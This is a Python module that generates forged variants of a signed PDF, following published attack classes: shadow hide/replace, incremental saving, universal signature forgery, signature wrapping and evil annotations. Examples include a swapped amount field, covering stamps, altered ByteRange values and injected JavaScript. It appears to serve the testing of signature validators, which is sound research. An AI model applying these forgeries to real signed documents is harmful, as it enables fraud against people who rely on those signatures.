"""What forgers add to a signed file, by the classes of the literature; each a function from a signed file to the bytes of a forged one.

Mladenov and others, *1 Trillion Dollar Refund* (2019): universal signature forgery, incremental saving, signature wrapping. Mainka and others,
*Shadow Attacks* (2021): hide, replace, hide and replace. Rohlmann and others, *Breaking the Specification: PDF Certification* (2021): evil
annotation, sneaky signature. The documents are those of ``papers.form``.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name as n
from pyhanko.pdf_utils.generic import pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Writer = IncrementalPdfFileWriter
Forgery = Callable[[Path], bytes]

UPDATES: dict[str, Callable[[Writer], object]] = {}
"""Changes by an incremental update: name → what is done with the writer. A reader by the book follows them."""

BYTES: dict[str, Forgery] = {}
"""Changes of the bytes themselves."""


def _update(change: Callable[[Writer], object]) -> Callable[[Writer], object]:
    UPDATES[change.__name__.strip("_")] = change
    return change


def _bytes(forge: Forgery) -> Forgery:
    BYTES[forge.__name__.strip("_")] = forge
    return forge


def updated(signed: Path, change: Callable[[Writer], object]) -> bytes:
    """The file with one incremental update."""
    writer = Writer(io.BytesIO(signed.read_bytes()), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(value) for value in values)


def _dict(**entries: Any) -> generic.DictionaryObject:
    return generic.DictionaryObject({n(f"/{key}"): value for key, value in entries.items()})


def _stream(data: bytes, **entries: Any) -> generic.StreamObject:
    return generic.StreamObject(_dict(**entries), stream_data=data)


def _page(w: Writer, number: int = 0) -> Any:
    page = w.root["/Pages"]["/Kids"][number]
    w.update_container(page)
    return page


def _replace(w: Writer, holder: Any, key: str, new: generic.PdfObject) -> None:
    """Put another object behind the same number."""
    reference = holder.raw_get(key).reference
    w.objects[(reference.generation, reference.idnum)] = new


def _field(w: Writer, name: str) -> Any:
    found = next(f.get_object() for f in w.root["/AcroForm"]["/Fields"] if f.get_object()["/T"] == name)
    w.update_container(found)
    return found


def _look(w: Writer, data: bytes, box: tuple[float, ...] = (0, 0, 300, 40)) -> Any:
    form = _stream(data, Type=n("/XObject"), Subtype=n("/Form"), BBox=_numbers(*box))
    form["/Resources"] = _dict(Font=_dict(F=_page(w)["/Resources"]["/Font"].raw_get("/F")))
    return w.add_object(form)


COVER = b"1 1 1 rg 0 0 300 40 re f 0 g BT /F 24 Tf 2 10 Td (Granted to Evil Eve) Tj ET"


def _widget(w: Writer, rect: tuple[float, ...] = (72, 690, 372, 730), **entries: Any) -> Any:
    note = _dict(
        Type=n("/Annot"),
        Rect=_numbers(*rect),
        F=generic.NumberObject(4),
        P=w.root["/Pages"]["/Kids"].raw_get(0),
    )
    note["/AP"] = _dict(N=_look(w, COVER))
    for key, value in entries.items():
        note[n(f"/{key}")] = value
    return w.add_object(note)


def _note(w: Writer, reference: Any) -> None:
    page = _page(w)
    page["/Annots"] = generic.ArrayObject([*page["/Annots"], reference])


def _new_field(w: Writer, reference: Any) -> None:
    form = w.root["/AcroForm"]
    form["/Fields"] = generic.ArrayObject([*form["/Fields"], reference])
    w.update_container(form)
    _note(w, reference)


# Shadow attacks: hide


@_update
def hide_by_emptying_a_form(w: Writer) -> None:
    _replace(
        w,
        _page(w)["/Resources"]["/XObject"],
        "/Fm",
        _stream(b"", Type=n("/XObject"), Subtype=n("/Form"), BBox=_numbers(0, 0, 1, 1)),
    )


@_update
def hide_a_picture(w: Writer) -> None:
    _replace(w, _page(w)["/Resources"]["/XObject"], "/Im", generic.NullObject())


@_update
def hide_by_dropping_a_resource(w: Writer) -> None:
    page = _page(w)
    del page["/Resources"]["/XObject"]["/Fm"]


@_update
def hide_by_dropping_content(w: Writer) -> None:
    page = _page(w)
    page["/Contents"] = generic.ArrayObject(list(page["/Contents"])[1:])


@_update
def hide_a_note(w: Writer) -> None:
    page = _page(w)
    page["/Annots"] = generic.ArrayObject(list(page["/Annots"])[:2])


@_update
def hide_by_transparency(w: Writer) -> None:
    _page(w)["/Resources"]["/ExtGState"]["/G"]["/ca"] = generic.FloatObject(0)


# Shadow attacks: replace


@_update
def replace_a_font(w: Writer) -> None:
    _replace(
        w,
        _page(w)["/Resources"]["/Font"],
        "/F",
        _dict(Type=n("/Font"), Subtype=n("/Type1"), BaseFont=n("/Symbol")),
    )


@_update
def replace_an_encoding(w: Writer) -> None:
    differences = generic.ArrayObject([generic.NumberObject(49), n("/nine")])
    font = _dict(
        Type=n("/Font"),
        Subtype=n("/Type1"),
        BaseFont=n("/Helvetica"),
        Encoding=_dict(Type=n("/Encoding"), Differences=differences),
    )
    _replace(w, _page(w)["/Resources"]["/Font"], "/F", font)


@_update
def replace_font_of_the_form(w: Writer) -> None:
    form = w.root["/AcroForm"]
    form["/DR"]["/Font"]["/F"] = _dict(Type=n("/Font"), Subtype=n("/Type1"), BaseFont=n("/Symbol"))
    w.update_container(form)


@_update
def replace_a_value(w: Writer) -> None:
    _field(w, "amount")["/V"] = pdf_string("900 000 dong")


@_update
def replace_a_value_and_its_look(w: Writer) -> None:
    field = _field(w, "amount")
    field["/V"] = pdf_string("900 000 dong")
    field["/AP"] = _dict(N=_look(w, b"BT /F 24 Tf 0 g 2 10 Td (900 000 dong) Tj ET"))


@_update
def replace_a_look_only(w: Writer) -> None:
    _field(w, "amount")["/AP"] = _dict(N=_look(w, b"BT /F 24 Tf 0 g 2 10 Td (900 dong) Tj ET"))


@_update
def replace_a_look_behind_its_number(w: Writer) -> None:
    new = _stream(b"", Type=n("/XObject"), Subtype=n("/Form"), BBox=_numbers(0, 0, 300, 40))
    _replace(w, _field(w, "amount")["/AP"], "/N", new)


@_update
def replace_how_values_are_drawn(w: Writer) -> None:
    _field(w, "amount")["/DA"] = pdf_string("/F 24 Tf 1 g")


@_update
def have_values_drawn_anew(w: Writer) -> None:
    form = w.root["/AcroForm"]
    form["/NeedAppearances"] = generic.BooleanObject(True)
    w.update_container(form)


@_update
def replace_a_picture(w: Writer) -> None:
    old = _page(w)["/Resources"]["/XObject"]["/Im"]
    entries = {key: value for key, value in old.items() if key not in {"/Filter", "/Length"}}
    _replace(
        w, _page(w)["/Resources"]["/XObject"], "/Im", generic.StreamObject(entries, stream_data=bytes(48))
    )


@_update
def replace_a_note(w: Writer) -> None:
    note = _page(w)["/Annots"][2].get_object()
    note["/Contents"] = pdf_string("rejected")
    w.update_container(note)


# Shadow attacks: hide and replace


@_update
def replace_the_page_tree(w: Writer) -> None:
    page = _dict(Type=n("/Page"), MediaBox=_numbers(0, 0, 595, 842), Resources=_dict())
    reference = w.add_object(page)
    tree = w.add_object(
        _dict(Type=n("/Pages"), Kids=generic.ArrayObject([reference]), Count=generic.NumberObject(1))
    )
    page["/Parent"] = tree
    w.root["/Pages"] = tree
    w.update_root()


@_update
def swap_pages(w: Writer) -> None:
    tree = w.root["/Pages"]
    tree["/Kids"] = generic.ArrayObject(reversed(tree["/Kids"]))
    w.update_container(tree)


@_update
def replace_the_catalogue(w: Writer) -> None:
    old = {key: value for key, value in w.root.items() if key != "/OCProperties"}
    reference = w.add_object(generic.DictionaryObject(old))
    w._root = reference  # type: ignore[attr-defined]
    w.trailer["/Root"] = reference


@_bytes
def other_offset_for_an_object(signed: Path) -> bytes:
    """A table alone: the content of page 1 is what stood for page 2 all along."""
    data = signed.read_bytes()
    with pikepdf.open(signed) as pdf:
        (first, second) = (page.obj["/Contents"][0].objgen[0] for page in pdf.pages)
        root, size = pdf.Root.objgen[0], int(pdf.trailer["/Size"])
    found = list(re.finditer(rb"(?<!\d)%d 0 obj" % second, data))
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    table = b"xref\n%d 1\n%010d 00000 n \n" % (first, found[-1].start())
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        previous,
        len(data) + 1,
    )
    return data + b"\n" + table + trailer


@_bytes
def object_freed(signed: Path) -> bytes:
    data = signed.read_bytes()
    with pikepdf.open(signed) as pdf:
        note = pdf.pages[0].obj["/Annots"][2].objgen[0]
        root, size = pdf.Root.objgen[0], int(pdf.trailer["/Size"])
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    table = b"xref\n%d 1\n0000000000 00001 f \n" % note
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        previous,
        len(data) + 1,
    )
    return data + b"\n" + table + trailer


# Incremental saving


@_update
def add_text(w: Writer) -> None:
    page = _page(w)
    page["/Contents"] = generic.ArrayObject(
        [*page["/Contents"], w.add_object(_stream(b"BT /F 30 Tf 72 300 Td (Paid) Tj ET"))]
    )


@_update
def add_a_page(w: Writer) -> None:
    tree = w.root["/Pages"]
    page = _dict(
        Type=n("/Page"), Parent=w.root.raw_get("/Pages"), MediaBox=_numbers(0, 0, 595, 842), Resources=_dict()
    )
    tree["/Kids"] = generic.ArrayObject([*tree["/Kids"], w.add_object(page)])
    tree["/Count"] = generic.NumberObject(3)
    w.update_container(tree)


@_update
def remove_a_page(w: Writer) -> None:
    tree = w.root["/Pages"]
    tree["/Kids"] = generic.ArrayObject(list(tree["/Kids"])[:1])
    tree["/Count"] = generic.NumberObject(1)
    w.update_container(tree)


@_update
def turn_a_page(w: Writer) -> None:
    _page(w)["/Rotate"] = generic.NumberObject(180)


@_update
def cut_a_page(w: Writer) -> None:
    _page(w)["/CropBox"] = _numbers(0, 0, 595, 650)


@_update
def enlarge_a_page(w: Writer) -> None:
    _page(w)["/MediaBox"] = _numbers(0, 0, 1000, 842)


@_update
def other_unit(w: Writer) -> None:
    _page(w)["/UserUnit"] = generic.NumberObject(2)


@_update
def name_written_with_escapes(w: Writer) -> None:
    """The same key in another spelling: readers that do not decode names see the old content."""
    page = _page(w)
    old = page["/Contents"]
    del page["/Contents"]
    page[n("/Contents")] = generic.ArrayObject(
        [*old, w.add_object(_stream(b"BT /F 30 Tf 72 300 Td (Paid) Tj ET"))]
    )


def _evil_object(signed: Path) -> bytes:
    with pikepdf.open(signed) as pdf:
        number = pdf.pages[0].obj["/Contents"][0].objgen[0]
    content = b"BT /F 30 Tf 72 300 Td (Paid) Tj ET"
    return b"\n%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number, len(content), content)


@_bytes
def saved_without_table(signed: Path) -> bytes:
    """New objects, no table, no trailer: readers that mend files take them."""
    return signed.read_bytes() + _evil_object(signed) + b"%%EOF\n"


@_bytes
def saved_with_the_old_table(signed: Path) -> bytes:
    data = signed.read_bytes()
    previous = re.findall(rb"startxref\s+(\d+)", data)[-1]
    return data + _evil_object(signed) + b"startxref\n" + previous + b"\n%%EOF\n"


@_bytes
def saved_with_an_empty_table(signed: Path) -> bytes:
    data = signed.read_bytes() + _evil_object(signed)
    with pikepdf.open(signed) as pdf:
        root, size = pdf.Root.objgen[0], int(pdf.trailer["/Size"])
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        previous,
        len(data),
    )
    return data + b"xref\n0 1\n0000000000 65535 f \n" + trailer


@_bytes
def saved_with_a_copied_signature(signed: Path) -> bytes:
    """The signature's own object again, so that its revision looks like the last one."""
    data = updated(signed, add_text)
    with pikepdf.open(signed) as pdf:
        holder = next(f["/V"] for f in pdf.Root.AcroForm.Fields if f["/FT"] == "/Sig" and "/V" in f)
        number, root, size = holder.objgen[0], pdf.Root.objgen[0], int(pdf.trailer["/Size"]) + 8
    body = re.search(rb"(?<!\d)%d 0 obj.*?endobj" % number, data, re.DOTALL)
    assert body
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    at = len(data) + 1
    copied = b"\n" + body[0] + b"\n"
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, at)
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        previous,
        at + len(copied) - 1,
    )
    return data + copied + table + trailer


@_bytes
def another_document_behind(signed: Path) -> bytes:
    other = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.save(other)
    return signed.read_bytes() + other.getvalue()


@_bytes
def another_document_before(signed: Path) -> bytes:
    return b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n" + signed.read_bytes()


# Evil annotations, and fields that cover


def _add_note(subtype: str, **entries: Any) -> Callable[[Writer], object]:
    def change(w: Writer) -> None:
        _note(w, _widget(w, Subtype=n(f"/{subtype}"), **entries))

    return change


for _kind in (
    "FreeText",
    "Stamp",
    "Square",
    "Highlight",
    "Redact",
    "Ink",
    "Watermark",
    "Popup",
    "FileAttachment",
):
    UPDATES[f"annotation_{_kind.lower()}"] = _add_note(_kind)
UPDATES["annotation_for_print_only"] = _add_note("Stamp", F=generic.NumberObject(4 | 32))
UPDATES["annotation_link"] = _add_note(
    "Link", A=_dict(S=n("/URI"), URI=pdf_string("https://example.invalid"))
)
UPDATES["annotation_screen"] = _add_note("Screen")


def _add_field(kind: str, **entries: Any) -> Callable[[Writer], object]:
    def change(w: Writer) -> None:
        _new_field(w, _widget(w, Subtype=n("/Widget"), FT=n(f"/{kind}"), T=pdf_string("x"), **entries))

    return change


UPDATES["unsigned_field_covers"] = _add_field("Sig")
UPDATES["unsigned_field_unseen"] = _add_field("Sig", F=generic.NumberObject(2))
UPDATES["field_with_an_empty_signature"] = _add_field("Sig", V=_dict(Type=n("/Sig")))
UPDATES["text_field_covers"] = _add_field("Tx", V=pdf_string("Granted to Evil Eve"))
UPDATES["button_covers"] = _add_field("Btn", Ff=generic.NumberObject(1 << 16))
UPDATES["choice_covers"] = _add_field("Ch", V=pdf_string("Eve"))
UPDATES["field_of_unknown_kind"] = _add_field("S#69g")


@_update
def field_with_the_same_signature(w: Writer) -> None:
    """An appearance of one's own over the signature of another."""
    held = _signed_field(w).raw_get("/V")
    _new_field(w, _widget(w, Subtype=n("/Widget"), FT=n("/Sig"), T=pdf_string("x"), V=held))


def _signed_field(w: Writer) -> Any:
    fields = (field.get_object() for field in w.root["/AcroForm"]["/Fields"])
    found = next(field for field in fields if field["/FT"] == "/Sig" and "/V" in field)
    w.update_container(found)
    return found


@_update
def look_of_the_signature(w: Writer) -> None:
    field = _signed_field(w)
    field["/Rect"] = _numbers(72, 690, 372, 730)
    field["/AP"] = _dict(N=_look(w, COVER))


@_update
def second_widget_of_the_signature(w: Writer) -> None:
    field = _signed_field(w)
    kid = _widget(
        w,
        Subtype=n("/Widget"),
        Parent=field.container_ref and generic.IndirectObject(field.container_ref.idnum, 0, w),
    )
    field["/Kids"] = generic.ArrayObject([kid])
    _note(w, kid)


@_update
def other_name_of_the_signature(w: Writer) -> None:
    _signed_field(w)["/T"] = pdf_string("Chairman")


@_update
def form_of_another_kind(w: Writer) -> None:
    form = w.root["/AcroForm"]
    form["/XFA"] = w.add_object(_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"))
    w.update_container(form)


@_update
def form_removed(w: Writer) -> None:
    del w.root["/AcroForm"]
    w.update_root()


@_update
def fields_removed(w: Writer) -> None:
    form = w.root["/AcroForm"]
    form["/Fields"] = generic.ArrayObject()
    w.update_container(form)


@_update
def empty_field_gets_a_look(w: Writer) -> None:
    _field(w, "Second")["/AP"] = _dict(N=_look(w, COVER))


@_update
def empty_field_moves(w: Writer) -> None:
    _field(w, "Second")["/Rect"] = _numbers(72, 690, 372, 730)


# Layers, actions, what viewers show around the pages


@_update
def layer_switched(w: Writer) -> None:
    layers = w.root["/OCProperties"]
    layers["/D"]["/ON"] = layers["/D"]["/OFF"]
    layers["/D"]["/OFF"] = generic.ArrayObject()
    w.update_container(layers)


@_update
def layer_for_a_picture(w: Writer) -> None:
    page = _page(w)
    old = page["/Resources"]["/XObject"]["/Im"]
    old["/OC"] = page["/Resources"]["/Properties"].raw_get("/L")
    w.update_container(old)


@_update
def layers_removed(w: Writer) -> None:
    del w.root["/OCProperties"]
    w.update_root()


def _catalogue(key: str, value: Callable[[Writer], generic.PdfObject]) -> Callable[[Writer], object]:
    def change(w: Writer) -> None:
        w.root[n(key)] = value(w)
        w.update_root()

    return change


_SCRIPT = _dict(S=n("/JavaScript"), JS=pdf_string("app.alert(1)"))
UPDATES["script_at_opening"] = _catalogue("/OpenAction", lambda _: _SCRIPT)
UPDATES["script_by_name"] = _catalogue(
    "/Names", lambda _: _dict(JavaScript=_dict(Names=generic.ArrayObject([pdf_string("a"), _SCRIPT])))
)
UPDATES["script_at_closing"] = _catalogue("/AA", lambda _: _dict(WC=_SCRIPT))
UPDATES["attachment_added"] = _catalogue(
    "/Names",
    lambda w: _dict(
        EmbeddedFiles=_dict(
            Names=generic.ArrayObject(
                [
                    pdf_string("a"),
                    _dict(Type=n("/Filespec"), F=pdf_string("a"), EF=_dict(F=w.add_object(_stream(b"x")))),
                ]
            )
        )
    ),
)
UPDATES["portfolio"] = _catalogue("/Collection", lambda _: _dict(Type=n("/Collection"), View=n("/D")))
UPDATES["outline_added"] = _catalogue(
    "/Outlines", lambda _: _dict(Type=n("/Outlines"), Count=generic.NumberObject(0))
)
UPDATES["page_labels_changed"] = _catalogue(
    "/PageLabels",
    lambda _: _dict(Nums=generic.ArrayObject([generic.NumberObject(0), _dict(P=pdf_string("9"))])),
)
UPDATES["viewer_preferences"] = _catalogue(
    "/ViewerPreferences", lambda _: _dict(HideToolbar=generic.BooleanObject(True))
)
UPDATES["permissions_forged"] = _catalogue("/Perms", lambda _: _dict(UR3=_dict(Type=n("/Sig"))))
UPDATES["structure_added"] = _catalogue("/StructTreeRoot", lambda _: _dict(Type=n("/StructTreeRoot")))


@_update
def title_changed(w: Writer) -> None:
    info = w.trailer["/Info"]
    info["/Title"] = pdf_string("Refusal")
    w.update_container(info)


@_update
def metadata_changed(w: Writer) -> None:
    old = w.root["/Metadata"].data
    w.root["/Metadata"] = w.add_object(
        _stream(old.replace(b"Decision", b"Refusals"), Type=n("/Metadata"), Subtype=n("/XML"))
    )
    w.update_root()


# Validation data as a cover


def _store(w: Writer, reference: Any) -> None:
    """The security store as it was, with something else besides."""
    old = {key: w.root["/DSS"].raw_get(key) for key in w.root["/DSS"]} if "/DSS" in w.root else {}
    w.root["/DSS"] = w.add_object(
        generic.DictionaryObject({**old, n("/Extra"): generic.ArrayObject([reference])})
    )
    w.update_root()


@_update
def store_that_brings_content(w: Writer) -> None:
    page = _page(w)
    reference = page["/Contents"].raw_get(1)
    w.objects[(reference.generation, reference.idnum)] = _stream(b"BT /F 30 Tf 72 300 Td (Paid) Tj ET")
    _store(w, reference)


@_update
def store_that_brings_a_note(w: Writer) -> None:
    note = _widget(w, Subtype=n("/Stamp"))
    _store(w, note)
    _note(w, note)


@_update
def store_that_brings_a_picture(w: Writer) -> None:
    images = _page(w)["/Resources"]["/XObject"]
    replace_a_picture(w)
    _store(w, images.raw_get("/Im"))


# Universal forgery and wrapping: inside the signature's own object


def _in_the_signature(pattern: bytes, new: Callable[[re.Match[bytes]], bytes]) -> Forgery:
    """Something else in the bytes of the first signature, of the same length."""

    def forge(signed: Path) -> bytes:
        data = signed.read_bytes()
        found = re.search(pattern, data, re.DOTALL)
        assert found
        put = new(found)
        assert len(put) <= len(found[0])
        return data[: found.start()] + put.ljust(len(found[0])) + data[found.end() :]

    return forge


_RANGE = rb"/ByteRange \[[^\]]*\]"
_CONTENTS = rb"/Contents <[0-9A-Fa-f]+>"
for _title, _new in {
    "range_missing": b"",
    "range_null": b"/ByteRange null",
    "range_empty": b"/ByteRange []",
    "range_of_nothing": b"/ByteRange [0 0 0 0]",
    "range_negative": b"/ByteRange [0 -1 -1 -1]",
    "range_of_names": b"/ByteRange [/a /b /c /d]",
    "range_of_two": b"/ByteRange [0 9]",
    "range_escaped": b"/Byte#52ange [0 9 9 9]",
    "range_huge": b"/ByteRange [0 9999 9999 9]",
}.items():
    BYTES[_title] = _in_the_signature(_RANGE, lambda _, new=_new: new)  # type: ignore[misc]
for _title, _new in {
    "contents_missing": b"",
    "contents_null": b"/Contents null",
    "contents_empty": b"/Contents <>",
    "contents_zero": b"/Contents <00>",
    "contents_name": b"/Contents /x",
    "contents_text": b"/Contents (forged)",
}.items():
    BYTES[_title] = _in_the_signature(_CONTENTS, lambda _, new=_new: new)  # type: ignore[misc]


def _zeros_shortened(found: re.Match[bytes]) -> bytes:
    """Room for something in the gap that no signature covers."""
    return found[0][:-200] + b"> /Evil (in the gap)"


BYTES["gap_with_more_than_contents"] = _in_the_signature(_CONTENTS, _zeros_shortened)


@_bytes
def second_part_moved(signed: Path) -> bytes:
    """Signature wrapping: what was signed lies further back, other bytes in its place."""
    data = signed.read_bytes()
    first, length, start, tail = map(int, next(_ranges(data)))
    put = b"\n9999 0 obj\n<</Evil true>>\nendobj\n".ljust(128)
    new = b"/ByteRange [%d %d %d %d]" % (first, length, start + len(put), tail)
    moved = data[:start] + put + data[start:]
    return re.sub(_RANGE, lambda old: new.ljust(len(old[0])), moved, count=1)


@_bytes
def end_not_covered(signed: Path) -> bytes:
    data = signed.read_bytes()
    first, length, start, tail = map(int, next(_ranges(data)))
    new = b"/ByteRange [%d %d %d %d]" % (first, length, start, tail - 20)
    return re.sub(_RANGE, lambda old: new.ljust(len(old[0])), data, count=1)


@_bytes
def bytes_behind_the_end(signed: Path) -> bytes:
    return signed.read_bytes() + b"\n% something behind the end\n"


@_bytes
def saved_anew(signed: Path) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(signed) as pdf:
        pdf.save(out)
    return out.getvalue()


@_bytes
def two_keys_of_one_name(signed: Path) -> bytes:
    """Readers differ in which of two equal keys they take: the page has its old content, and another under the same name."""
    with pikepdf.open(signed) as pdf:
        page = pdf.pages[0].obj
        number, root, size = page.objgen[0], pdf.Root.objgen[0], int(pdf.trailer["/Size"])
        body = page.unparse(resolved=True)
    data = signed.read_bytes()
    evil = _evil_object(signed).replace(
        b"%d 0 obj" % int(re.search(rb"(\d+) 0 obj", _evil_object(signed))[1]), b"%d 0 obj" % size
    )  # type: ignore[index]
    at, added = len(data) + 1, b"\n%d 0 obj\n<</Contents %d 0 R %s\nendobj\n" % (number, size, body[2:])
    previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    table = b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (number, at, size, at + len(added))
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n" % (size + 1, root, previous)
    whole = data + added + evil
    return whole + table + trailer + b"%d\n%%%%EOF\n" % len(whole)


def _ranges(data: bytes) -> Iterator[tuple[bytes, ...]]:
    for found in re.finditer(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)", data):
        yield found.groups()
